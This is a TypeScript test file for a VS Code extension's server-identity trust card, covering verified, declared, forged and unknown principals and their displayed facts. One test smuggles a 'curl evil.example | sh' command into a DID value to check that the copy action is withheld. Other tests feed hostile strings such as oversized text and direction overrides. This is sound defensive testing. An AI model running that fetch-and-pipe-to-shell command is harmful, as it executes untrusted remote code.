import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { type Principal, unknownPrincipal } from '../../../src/domain/identity/principal';
import { endsText, readTrustAsk, TRUST_WORDS } from '../../../src/shared/trustProtocol';
import { identityProblems } from '../../../src/vscode/identityProblems';
import { identityLine, trustCard, type TrustCardFacts, trustStateOf } from '../../../src/vscode/trustCardText';
import { aServerEntry } from '../support/serverEntries';

const NOW = 1_735_689_600;
const VERIFIED: Principal = {
	...{ state: 'VERIFIED_PRINCIPAL', did: 'did:web:api.example.com', level: '2', badge: 'ok', proof: 'ok' },
	...{ binding: 'ok', pin: 'match', errors: [], blocked: false, issuer: 'https://ca.example.com' },
	...{ domain: 'api.example.com', expires: NOW + 252, keyThumbprint: 'T'.repeat(43), pinnedIssuerKey: false },
	...{ revocation: { source: 'online', asOf: NOW - 5 }, pinnedSince: NOW - 86_400 * 3, checkedAt: NOW - 5 },
};
const DECLARED: Principal = {
	...{ state: 'DECLARED_PRINCIPAL', did: 'did:web:api.example.com', badge: 'absent', proof: 'absent' },
	...{ binding: 'ok', pin: 'none', errors: ['SERVER_BADGE_MISSING'], blocked: false, checkedAt: NOW },
};
const UNTRUSTED: Principal = {
	...{ ...DECLARED, badge: 'failed', issuer: 'https://unknown.example', cause: 'BADGE_ISSUER_UNTRUSTED' },
	errors: ['SERVER_ISSUER_UNTRUSTED'],
};
const FORGED: Principal = {
	...{
		...DECLARED,
		badge: 'failed',
		cause: 'BADGE_SIGNATURE_INVALID',
		errors: ['SERVER_BADGE_INVALID'],
		blocked: true,
	},
};
const entry = aServerEntry({});

function cardOf(principal: Principal, more: Partial<TrustCardFacts> = {}) {
	return trustCard({ entry, principal, asks: [], trustsAnybody: true, now: NOW * 1000, ...more });
}
const valueOf = (card: ReturnType<typeof cardOf>, label: string) =>
	[...card.identity, ...card.checks, ...card.provenance].find(fact => fact.label === label);

describe('the trust card', () => {
	it.each([
		['verified', VERIFIED],
		['declared', DECLARED],
		['declared', UNTRUSTED],
		['none', unknownPrincipal(NOW)],
		['checking', unknownPrincipal(NOW, true)],
		['failed', FORGED],
		['failed', { ...VERIFIED, blocked: true }],
		['failed', { ...unknownPrincipal(NOW, true), blocked: true }],
	] as const)('is %s', (state, principal) => {
		expect(trustStateOf(principal)).toBe(state);
		expect(cardOf(principal).state).toBe(state);
	});

	it('a verified server: who says so, level by number and name, DID, expiry, binding, proof, pin, revocation', () => {
		const card = cardOf(VERIFIED);
		expect(card.problems).toEqual([]);
		expect(valueOf(card, 'Who says so')).toMatchObject({ value: 'https://ca.example.com' });
		expect(valueOf(card, 'Who says so')).not.toHaveProperty('claimed');
		expect(valueOf(card, 'Trust level')?.value).toBe('2: Domain Validated');
		expect(valueOf(card, 'Identity (DID)')?.value).toBe('did:web:api.example.com');
		expect(valueOf(card, 'Badge ends')).toMatchObject({ ends: (NOW + 252) * 1000, value: '2025-01-01T00:04:12Z' });
		expect(valueOf(card, 'Address')?.value).toMatch(/belongs to the address/);
		expect(valueOf(card, 'Key')?.value).toMatch(/Proven in this session.*v2/);
		expect(valueOf(card, 'Remembered')?.value).toMatch(/first seen 3 days ago/);
		expect(valueOf(card, 'Taken back?')?.value).toMatch(/^No: its issuer was asked, as of just now/);
		expect(valueOf(card, 'Comes from')).toBeDefined();
		expect(card.actions).toEqual(['check', 'copyDid', 'forget']);
		// What is no DID may be a command that waits to be pasted.
		expect(cardOf({ ...VERIFIED, did: 'did:web:a\ncurl evil.example | sh' }).actions).toEqual(['check', 'forget']);
	});

	it('the older proof and a key that was not proven are told apart from the newer proof', () => {
		const texts = (['ok', 'legacy', 'absent', 'failed'] as const).map(
			proof => valueOf(cardOf({ ...VERIFIED, proof }), 'Key')?.value,
		);
		expect(new Set(texts).size).toBe(4);
		expect(texts[1]).toMatch(/older form/);
		expect(texts[2]).toMatch(/^Not proven/);
	});

	it('§3.2: what a badge that does not count says is its own word, and gives no level', () => {
		const card = cardOf({ ...UNTRUSTED, level: '4' });
		expect(valueOf(card, 'Who says so')).toMatchObject({ claimed: true });
		expect(valueOf(card, 'Identity (DID)')).toMatchObject({ claimed: true });
		expect(valueOf(card, 'Trust level')).toBeUndefined();
		expect(card.actions).toContain('addIssuer');
		expect(cardOf(FORGED).actions).not.toContain('addIssuer');
	});

	it('a failed check looks worse than an absent one: another word, and a grave problem with what to do', () => {
		const failed = cardOf(FORGED);
		expect(failed.problems[0]).toMatchObject({ code: 'BADGE_SIGNATURE_INVALID', grave: true });
		expect(failed.problems[0]?.advice).toMatch(/Do not use it/);
		expect(cardOf(unknownPrincipal(NOW)).problems.every(({ grave }) => !grave)).toBe(true);
		expect(TRUST_WORDS.failed).not.toBe(TRUST_WORDS.none);
	});

	it('a changed pin is told first, with the way to forget it', () => {
		const card = cardOf({ ...VERIFIED, pin: 'changed', blocked: true });
		expect(card.problems[0]).toMatchObject({ code: 'IDENTITY_CHANGED', grave: true });
		expect(card.actions).toContain('forget');
		expect(valueOf(card, 'Remembered')?.value).toMatch(/^NOT /);
	});

	it('while it is checked, nothing counts as wrong', () => {
		expect(cardOf(unknownPrincipal(NOW, true)).problems).toEqual([]);
	});

	it('speaks of identity and never calls a server safe', () => {
		const all = [VERIFIED, DECLARED, UNTRUSTED, FORGED, unknownPrincipal(NOW), unknownPrincipal(NOW, true)];
		for (const principal of all) {
			expect(JSON.stringify(cardOf(principal))).not.toMatch(/\b(safe|secure|harmless|trustworthy)\b/i);
		}
	});

	it('hostile texts and times: cut, never thrown at', () => {
		const card = cardOf({ ...VERIFIED, did: 'x'.repeat(100_000), expires: 9e15, domain: '\u202e<b>' });
		expect(valueOf(card, 'Identity (DID)')?.value.length).toBeLessThan(2_100);
		expect(valueOf(card, 'Badge ends')?.value).toBe('a time that is none');
		expect(valueOf(card, 'Domain')?.value).toBe('\u202e<b>');
	});

	it('every code has a sentence and advice of its own, none of which quotes the server', () => {
		const codes = [
			'SERVER_IDENTITY_MISSING',
			'SERVER_DOMAIN_MISMATCH',
			'SERVER_POP_FAILED',
			'SERVER_DID_MISMATCH',
		] as const;
		const problems = identityProblems({ ...FORGED, errors: [...codes, ...codes] });
		expect(problems.map(({ code }) => code)).toEqual([...codes]);
		expect(problems.map(({ grave }) => grave)).toEqual([true, false, false, false]);
		for (const { sentence, advice } of problems) {
			expect(sentence).toMatch(/^[A-Z].*\.$/);
			expect(advice).toMatch(/^[A-Z].*\.$/);
		}
	});
});

describe('one line for the tree', () => {
	it.each([
		['Verified, level 2 (Domain Validated)', VERIFIED],
		['Declared', DECLARED],
		['Declared, badge does not count', UNTRUSTED],
		['No identity', unknownPrincipal(NOW)],
		['Checking', unknownPrincipal(NOW, true)],
		['FAILED', FORGED],
		['FAILED', { ...VERIFIED, blocked: true }],
	] as const)('%s', (line, principal) => {
		expect(identityLine(principal)).toBe(line);
	});
});

describe('what the page may ask', () => {
	it('is a closed set, and nothing of it is passed on', () => {
		expect(readTrustAsk({ kind: 'forget', server: 'x' })).toEqual({ kind: 'forget' });
		for (const odd of [undefined, null, 'check', { kind: 'delete' }, { kind: ['check'] }, {}]) {
			expect(readTrustAsk(odd)).toBeUndefined();
		}
	});

	it('property: nothing throws', () => {
		fc.assert(fc.property(fc.anything(), value => (readTrustAsk(value), true)));
	});
});

describe('how long until a badge ends', () => {
	it.each([
		[252_000, 'in 4 min 12 s'],
		[9_000, 'in 9 s'],
		[3_600_000 * 3 + 300_000, 'in 3 h 5 min'],
		[86_400_000 * 2, 'in 2 d 0 h'],
		[-20_000, 'ended 20 s ago'],
		[0, 'ended 0 s ago'],
	])('%d ms: %s', (ms, text) => {
		expect(endsText(1_000_000 + ms, 1_000_000)).toBe(text);
	});
});
